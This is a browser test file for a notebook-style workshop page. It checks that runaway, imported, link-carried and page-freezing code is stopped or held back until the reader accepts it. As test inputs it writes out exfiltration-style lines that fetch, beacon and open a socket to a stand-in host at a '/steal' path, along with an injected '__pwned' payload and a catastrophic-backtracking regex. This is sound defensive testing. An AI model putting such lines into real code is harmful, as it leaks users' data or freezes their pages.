/**
 * A workshop room, tried as its readers would (issue 8): runaway code in every form, files and
 * links from others, full storage, two tabs, code that empties the page or freezes it for good,
 * leaks, and broken links. Each test asserts what the reader sees, that the page still answers,
 * and that nothing ran without consent.
 */
import { writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { encodeRecord } from "../../src/workshop/stored-record.ts";
import {
  cells,
  gotoAndSettle,
  launchBrowser,
  memory,
  settle,
  siteUrl,
  waitForHooks,
} from "./browser.ts";
import {
  cellLocator,
  editAndRun,
  editorContent,
  openEditor,
  INDEPENDENT,
  newTab,
  OK,
  SELFTEST,
  storedEdits,
  TALL,
  storedEditsText,
} from "./editor.ts";

const INLINE = "selftest/cell-1";

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser?.close());

const newPage = (seed?: Record<string, string>) => newTab(browser, seed ? { seed } : {});

/** The page answers: a script runs and returns within a second. */
async function answers(page: Page): Promise<boolean> {
  const reply = page.evaluate(() => 42);
  const late = new Promise<number>((resolve) => setTimeout(() => resolve(0), 1000));
  return (await Promise.race([reply, late])) === 42;
}

const alertOf = (page: Page, key: string) => cellLocator(page, key).locator("[role=alert]");
const noticeOf = (page: Page, key: string) => cellLocator(page, key).locator(".fd-notice").first();
const pageNotices = (page: Page) => page.locator(".fd-notices .fd-notice");
const doubled = (page: Page) =>
  cellLocator(page, INDEPENDENT).locator(".selftest-doubled").textContent();
/** A cell that depends on nothing edited here: it runs whatever happens to `ok`. */
const pixels = (page: Page) =>
  cellLocator(page, "selftest/shared").locator(".selftest-pixels").textContent();

describe("runaway code is stopped in any form, naming the cell, and the page answers", () => {
  let context: BrowserContext;
  let page: Page;
  beforeAll(async () => {
    ({ context, page } = await newPage());
    await gotoAndSettle(page, siteUrl(SELFTEST));
  });
  afterAll(() => context?.close());

  it.each([
    ["an awaiting loop", "let i = 0;\nwhile (true) { await 0; i++; }"],
    ["an async recursion", "async function f(n) { await 0; return f(n + 1); }\nawait f(0);"],
  ])("%s", async (_, source) => {
    // A healthy run first, so that the alert awaited below can only come from this runaway and
    // not from the previous case's (that one made the poll pass at once, mid-runaway, in CI).
    await editAndRun(page, OK, "1");
    await expect.poll(() => alertOf(page, OK).textContent()).toBe("");
    await editAndRun(page, OK, source);
    await expect
      .poll(() => alertOf(page, OK).textContent(), { timeout: 15_000 })
      .toMatch(/Stopped selftest\/ok: its code ran for more than 2 s/);
    expect(await answers(page)).toBe(true);
    expect(await doubled(page), "the other cells keep their output").toBeTruthy();
  });

  it("a promise chain the cell left running", async () => {
    await editAndRun(
      page,
      OK,
      "const spin = () => Promise.resolve().then(spin);\nspin();\n'spinning'",
    );
    await expect
      .poll(() => pageNotices(page).allTextContents(), { timeout: 15_000 })
      .toContainEqual(expect.stringMatching(/Stopped selftest\/ok/));
    expect(await answers(page)).toBe(true);
  });
});

describe("code from a file or a link runs only once the reader accepts it", () => {
  it("an imported file's code is kept but not run, and says so on its cell", async () => {
    const { context, page } = await newPage();
    const payload = "window.__pwned = true;\nconst total = 99;\ndisplay(total);";
    const file = {
      format: "flowdeck-export",
      version: 1,
      exportedAt: new Date(0).toISOString(),
      records: {
        "flowdeck:edits:selftest": encodeRecord("flowdeck-edits", {
          ok: { source: payload, baseSource: "whatever", savedAt: 1 },
        }),
        // a progress record under an edits key: not the kind of record its key holds
        "flowdeck:edits:dl101": encodeRecord("flowdeck-progress", {}),
      },
    };
    const path = join(tmpdir(), `flowdeck-import-${Date.now()}.json`);
    await writeFile(path, JSON.stringify(file));
    await gotoAndSettle(page, siteUrl("/workshop.html"));
    await page.locator('input[data-action="import"]').setInputFiles(path);
    await expect
      .poll(() => pageNotices(page).allTextContents())
      .toContainEqual(
        expect.stringMatching(/Imported 1 record\(s\); 1 damaged record\(s\) skipped/),
      );

    await gotoAndSettle(page, siteUrl(SELFTEST));
    expect(await page.evaluate(() => "__pwned" in window), "nothing ran").toBe(false);
    const notice = noticeOf(page, OK);
    await expect.poll(() => notice.textContent()).toMatch(/imported from a file\. It has not run/);
    await notice.getByRole("button", { name: "Review the code" }).click();
    await expect.poll(() => editorContent(page, OK).textContent()).toContain("__pwned");
    expect(await page.evaluate(() => "__pwned" in window), "reviewing runs nothing").toBe(false);
    await notice.getByRole("button", { name: "Run it" }).click();
    await expect.poll(() => page.evaluate(() => "__pwned" in window)).toBe(true);
    await context.close();
  });

  it("a link's code for an inline cell can be reviewed (nothing saved, nothing run) and reset", async () => {
    const { context, page } = await newPage();
    const code = Buffer.from(
      JSON.stringify({ "cell-1": "(window.__ran = 1, 'from the link')" }),
    ).toString("base64url");
    await gotoAndSettle(page, siteUrl(`${SELFTEST}&code=${code}`));
    const notice = pageNotices(page).filter({ hasText: "carries edited code" });
    await notice.getByRole("button", { name: "Review the code" }).click();
    await expect.poll(() => editorContent(page, INLINE).textContent()).toContain("from the link");
    expect(await page.evaluate(() => "__ran" in window)).toBe(false);
    // Only looked at: no draft was kept of it, even once the editor is closed.
    await editorContent(page, INLINE).focus();
    await page.keyboard.press("Escape");
    expect(await storedEditsText(page, "selftest")).toBeNull();

    await pageNotices(page)
      .filter({ hasText: "carries edited code" })
      .getByRole("button", { name: "Run it" })
      .click();
    await expect
      .poll(() => cellLocator(page, INLINE).locator(".fd-output").textContent())
      .toBe("from the link");
    await openEditor(page, INLINE);
    await cellLocator(page, INLINE)
      .locator(".fd-editor-actions button", { hasText: "Reset" })
      .click();
    await expect
      .poll(() => cellLocator(page, INLINE).locator(".fd-output").textContent())
      .not.toBe("from the link");
    expect((await storedEdits(page, "selftest"))?.["cell-1"]).toBeUndefined();
    await context.close();
  });
});

/** Kills every renderer process of the browser, as "Exit page" on an unresponsive page does. */
async function killRenderers(of: Browser): Promise<void> {
  const cdp = await of.newBrowserCDPSession();
  const info = (await cdp.send("SystemInfo.getProcessInfo")) as {
    processInfo: Array<{ type: string; id: number }>;
  };
  for (const { type, id } of info.processInfo) if (type === "renderer") process.kill(id, "SIGKILL");
  await cdp.detach();
}

/**
 * A new page once the renderers were killed: Chromium keeps a spare renderer ready, and the kill
 * may have taken it too, so a page that lands in it crashes at once; the next one does not.
 */
async function newPageAfterKill(context: BrowserContext): Promise<Page> {
  for (let attempt = 1; ; attempt++) {
    try {
      return await context.newPage();
    } catch (error) {
      if (attempt >= 3 || !String(error).includes("crashed")) throw error;
    }
  }
}

/** Fills localStorage until it refuses, leaving what was there. */
async function fillStorage(page: Page): Promise<void> {
  await page.evaluate(() => {
    const block = "x".repeat(256 * 1024);
    for (let i = 0; ; i++) {
      try {
        localStorage.setItem(`filler:${i}`, block);
      } catch {
        break;
      }
    }
    for (let size = 128 * 1024; size >= 1; size = Math.floor(size / 2)) {
      try {
        localStorage.setItem(`filler:small:${size}`, "x".repeat(size));
      } catch {
        // full at this size: try smaller
      }
    }
  });
}

describe("accepted code still cannot reach beyond the page's origin", () => {
  it("the content policy blocks an edit's fetch, beacon, image and WebSocket to another host", async () => {
    const { context, page } = await newPage();
    // Another host that answers everything: what the policy lets through would reach it.
    const reached: string[] = [];
    await context.route("http://198.51.100.7/**", (route) => {
      reached.push(route.request().url());
      return route.fulfill({ status: 200, body: "" });
    });
    await page.addInitScript(() => {
      const blocked: string[] = [];
      (window as unknown as { __blocked: string[] }).__blocked = blocked;
      document.addEventListener("securitypolicyviolation", (e) => blocked.push(e.blockedURI));
    });
    await gotoAndSettle(page, siteUrl(SELFTEST));
    const away = "http://198.51.100.7";
    await editAndRun(
      page,
      OK,
      [
        `const sent = await fetch("${away}/steal?" + localStorage.length).then(() => "sent", () => "refused");`,
        `navigator.sendBeacon("${away}/beacon", "edits");`,
        `new Image().src = "${away}/pixel.png";`,
        `try { new WebSocket("ws://198.51.100.7/socket"); } catch {}`,
        "const total = 10;",
        "display(sent);",
      ].join("\n"),
    );
    await expect
      .poll(() => cellLocator(page, OK).locator(".fd-output").textContent(), { timeout: 15_000 })
      .toContain("refused");
    await expect
      .poll(() => page.evaluate(() => (window as unknown as { __blocked: string[] }).__blocked))
      .toEqual(
        expect.arrayContaining([
          expect.stringContaining(`${away}/steal`),
          expect.stringContaining(`${away}/beacon`),
          expect.stringContaining(`${away}/pixel.png`),
          expect.stringContaining("ws://198.51.100.7/socket"),
        ]),
      );
    expect(reached, "requests that reached the other host").toEqual([]);
    expect(await doubled(page), "the cells that use it still compute").toBe("20");
    await context.close();
  });
});

describe("full storage", () => {
  it("a damaged record says so once, truthfully, and leaves the cells usable", async () => {
    const context = await browser.newContext({ viewport: TALL });
    // The record is damaged, and storage full, before the page's first script reads it.
    await context.addInitScript(() => {
      if (location.protocol === "about:" || localStorage.getItem("flowdeck:edits:selftest")) return;
      localStorage.setItem("flowdeck:edits:selftest", "{damaged");
      for (let size = 256 * 1024; size >= 1; size = Math.floor(size / 2)) {
        for (let i = 0; ; i++) {
          try {
            localStorage.setItem(`filler:${size}:${i}`, "x".repeat(size));
          } catch {
            break; // full at this size: go on with smaller ones
          }
        }
      }
    });
    const page = await context.newPage();
    await gotoAndSettle(page, siteUrl(SELFTEST));
    const about = pageNotices(page).filter({ hasText: "flowdeck:edits:selftest" });
    expect(await about.count()).toBe(1);
    expect(await about.textContent()).toMatch(/could not be set aside \(storage is full\)/);
    await openEditor(page, OK); // the Edit button is not covered by notices
    await context.close();
  });

  it("typing says once what is not saved, not at every draft", async () => {
    const { context, page } = await newPage();
    await gotoAndSettle(page, siteUrl(SELFTEST));
    await fillStorage(page);
    const content = await openEditor(page, OK);
    for (const word of [" one", " two", " three"]) {
      await content.press("End");
      await page.keyboard.type(word);
      await page.waitForTimeout(600); // past the draft timer: each round tries to save
    }
    const unsaved = pageNotices(page).filter({ hasText: "Not saved in this browser" });
    expect(await unsaved.count()).toBe(1);
    expect(await unsaved.textContent()).toContain(OK);
    await context.close();
  });
});

describe("two tabs of one browser", () => {
  it("follow each other's edits, and show a conflict instead of overwriting what is typed", async () => {
    const context = await browser.newContext({ viewport: TALL });
    const [a, b] = [await context.newPage(), await context.newPage()];
    await gotoAndSettle(a, siteUrl(SELFTEST));
    await gotoAndSettle(b, siteUrl(SELFTEST));
    await editAndRun(a, OK, "const total = 50;\ndisplay(total);");
    await expect.poll(() => doubled(b), { timeout: 15_000 }).toBe("100");

    // B starts typing its own version; A then runs another one.
    const content = await openEditor(b, OK);
    await content.press("ControlOrMeta+End");
    await b.keyboard.type(" // mine");
    const typed = await content.textContent();
    await editAndRun(a, OK, "const total = 7;\ndisplay(total);");
    const notice = noticeOf(b, OK);
    await expect
      .poll(() => notice.textContent(), { timeout: 15_000 })
      .toMatch(/Another tab changed/);
    expect(await content.textContent(), "B's typing is kept").toBe(typed);
    await notice.getByRole("button", { name: "Use the other tab's" }).click();
    await expect.poll(() => doubled(b)).toBe("14");
    await context.close();
  });
});

describe("a page that died while running an edit recovers by itself", () => {
  it("an edit that empties the page says so, and is held back at the next load", async () => {
    const { context, page } = await newPage();
    await gotoAndSettle(page, siteUrl(SELFTEST));
    await editAndRun(page, OK, 'document.body.innerHTML = "";');
    const banner = page.locator("[data-flowdeck-emptied]");
    await expect
      .poll(() => banner.textContent(), { timeout: 15_000 })
      .toMatch(/selftest\/ok removed this page/);
    await page.reload();
    await waitForHooks(page);
    await settle(page);
    expect(await page.locator("main h1").count(), "the page is back").toBe(1);
    await expect
      .poll(() => noticeOf(page, OK).textContent())
      .toMatch(/Held back: this cell's edited code removed the page/);
    expect(await alertOf(page, OK).textContent()).toMatch(/held back/);
    expect(await page.locator("main h1").count(), "its code did not run again").toBe(1);
    expect(await pixels(page), "the other cells run").toBe("784");
    await noticeOf(page, OK).getByRole("button", { name: "Use the notebook's code" }).click();
    await expect.poll(() => cellLocator(page, OK).getAttribute("data-state")).toBe("ready");
    await context.close();
  });

  it(
    "an edit that freezes the page beyond the guard's reach is held back when it is opened again",
    { timeout: 90_000 },
    async () => {
      const context = await browser.newContext({ viewport: TALL });
      const frozen = await context.newPage();
      await gotoAndSettle(frozen, siteUrl(SELFTEST));
      // A regular expression that backtracks for ages: native code, which no guard can interrupt.
      void editAndRun(frozen, OK, 'const total = /^(a+)+$/.test("a".repeat(40) + "b");').catch(
        () => {},
      );
      await expect.poll(() => answers(frozen), { timeout: 20_000 }).toBe(false);
      // Its heartbeat stops. The reader gives up on it (the browser's "Exit page" kills the
      // renderer, as here), and a page opened once the journal has gone stale finds it.
      await new Promise((resolve) => setTimeout(resolve, 7000));
      await Promise.all([frozen.waitForEvent("crash"), killRenderers(browser)]);
      const next = await newPageAfterKill(context);
      await gotoAndSettle(next, siteUrl(SELFTEST));
      await expect
        .poll(() => noticeOf(next, OK).textContent())
        .toMatch(/Held back: the page stopped responding/);
      expect(await pixels(next), "the page answers and runs its other cells").toBe("784");
      await context.close();
    },
  );
});

describe("leaks, links and stuck cells", () => {
  it("Reset frees what the edited cell leaked", async () => {
    const { context, page } = await newPage();
    await gotoAndSettle(page, siteUrl(SELFTEST));
    const before = (await memory(page)).numTensors;
    await editAndRun(page, OK, "for (let i = 0; i < 300; i++) tf.ones([10]);\nconst total = 0;");
    await expect
      .poll(async () => (await memory(page)).numTensors, { timeout: 15_000 })
      .toBeGreaterThanOrEqual(before + 300);
    await cellLocator(page, OK).locator(".fd-editor-actions button", { hasText: "Reset" }).click();
    await expect
      .poll(async () => (await memory(page)).numTensors, { timeout: 15_000 })
      .toBeLessThanOrEqual(before);
    await context.close();
  });

  it("a malformed hash or seed does not stop the page; a bad seed is replaced and reported", async () => {
    const { context, page } = await newPage();
    await gotoAndSettle(page, siteUrl(`${SELFTEST}#%E0%A4%A`));
    expect(await page.locator(".fd-fatal").count()).toBe(0);
    await gotoAndSettle(page, siteUrl("/#%E0%A4%A"));
    expect(await page.locator(".fd-fatal").count()).toBe(0);
    await gotoAndSettle(page, siteUrl(`${SELFTEST}&seed=abc`));
    expect(new URL(page.url()).searchParams.get("seed")).toMatch(/^[1-9]\d*$/);
    await expect
      .poll(() => pageNotices(page).allTextContents())
      .toContainEqual(expect.stringMatching(/seed “abc” is not a whole number/));
    await context.close();
  });

  it("a link with my edits leaves out a record for a cell that does not exist", async () => {
    const edits = {
      ok: { source: "const total = 1;\ndisplay(total);", baseSource: "x", savedAt: 1 },
      ghost: { source: "'boo'", baseSource: "x", savedAt: 1 },
    };
    const { context, page } = await newPage({
      "flowdeck:edits:selftest": encodeRecord("flowdeck-edits", edits),
    });
    await gotoAndSettle(page, siteUrl(SELFTEST));
    await page.locator(".fd-share").click();
    const link = new URL((await page.locator(".fd-share").getAttribute("data-link")) ?? "");
    const code = JSON.parse(
      Buffer.from(link.searchParams.get("code") ?? "", "base64url").toString(),
    );
    expect(Object.keys(code)).toEqual(["ok"]);
    await context.close();
  });

  it(
    "a cell awaiting a promise that never settles times out, says so, and lets the page settle",
    { timeout: 90_000 },
    async () => {
      const { context, page } = await newPage();
      await gotoAndSettle(page, siteUrl(SELFTEST));
      await editAndRun(page, OK, "await new Promise(() => {});");
      await settle(page); // would never resolve without the per-cell timeout
      const ok = (await cells(page)).find((c) => c.id === "ok");
      expect(ok).toMatchObject({ state: "running", stalled: true });
      await expect
        .poll(() => cellLocator(page, OK).locator(".fd-stalled").textContent())
        .toMatch(/Still running after 20 s/);
      await context.close();
    },
  );
});
